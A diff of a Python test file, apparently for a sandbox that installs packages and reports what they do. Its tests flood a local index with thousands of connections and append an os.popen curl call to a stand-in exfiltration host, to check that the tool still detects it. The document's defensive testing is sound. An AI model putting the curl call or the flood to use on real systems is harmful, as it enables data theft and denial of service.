@@ -328,7 +328,6 @@ def flood():
     kept = []
     for number in range(10_000):
         one = socket.socket()
-        one.settimeout(5)
         try:
             one.connect(("127.0.0.1", 3141))
             kept = [*kept[-100:], one]
@@ -344,7 +343,7 @@ def test_ten_thousand_connections_to_the_index_stop_neither_it_nor_the_run(
     jail: None, snakehook: Snakehook, index: Index
 ) -> None:
     index.add_backend_sdist("flood", "1.0", PROBES + FLOOD_INDEX, {"flood.py": ""})
-    report = install(snakehook, "flood", RUN_TIMEOUT_SEC=30)
+    report = install(snakehook, "flood", RUN_TIMEOUT_SEC=80)
     assert report["outcome"] == "ok", report["reason"]
     assert any("too many connections" in note for note in report["coverage"]["notes"])
 
@@ -414,7 +413,6 @@ for n in range(20_000):
 }
 
 
-@pytest.mark.unmet
 @pytest.mark.parametrize("flood", FLOODS.values(), ids=FLOODS)
 def test_a_flood_of_evidence_is_bounded_and_hides_nothing_that_comes_after(exhaust: Any, flood: str) -> None:
     report = exhaust(flood + "\nos.popen('curl http://exfil.example/').read()\n", RUN_TIMEOUT_SEC=40)
